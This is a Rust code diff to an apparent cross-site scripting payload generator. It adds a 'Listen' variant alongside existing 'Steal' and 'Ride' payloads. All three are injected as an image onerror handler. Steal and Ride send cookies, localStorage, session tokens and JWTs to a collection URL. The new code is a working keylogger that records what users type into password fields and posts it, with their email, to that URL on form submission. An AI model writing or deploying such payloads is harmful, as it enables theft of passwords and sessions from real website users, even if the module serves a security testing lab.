@@ -11,6 +11,8 @@ pub(super) enum Payload {
     Steal,
     /// Acts as whoever reads it: changes their name, through either door, and tells.
     Ride,
+    /// Listens to the keys that its reader presses in a password field, and sends them home with the form.
+    Listen,
 }
 
 impl Payload {
@@ -22,6 +24,7 @@ impl Payload {
                  body:JSON.stringify({{localStorage,cookie:document.cookie}})}})"
             ),
             Self::Ride => RIDE.replace("COLLECT", collect),
+            Self::Listen => LISTEN.replace("COLLECT", collect),
         };
         format!("<img src=\"/no-such-image\" alt=\"\" onerror=\"{script}\">")
     }
@@ -39,3 +42,15 @@ const RIDE: &str = "(async()=>{\
     fetch('COLLECT',{method:'POST',mode:'no-cors',body:JSON.stringify({session,jwt,cookie:document.cookie,localStorage:{}})})\
     })()";
 // #endregion ride
+
+// #region listen
+/// Says first that it runs. Then it hears every key before the page's own form does, and sends what it heard along with the
+/// form. In an inline handler a bare `addEventListener` would be the image's own.
+const LISTEN: &str = "(()=>{\
+    let keys='';\
+    const home=o=>fetch('COLLECT',{method:'POST',mode:'no-cors',keepalive:true,body:JSON.stringify(o)});\
+    window.addEventListener('keydown',e=>{if(e.target.type=='password'&&e.key.length==1)keys+=e.key},true);\
+    window.addEventListener('submit',e=>home({keys,email:e.target.elements.email?.value}),true);\
+    home({listening:true})\
+    })()";
+// #endregion listen
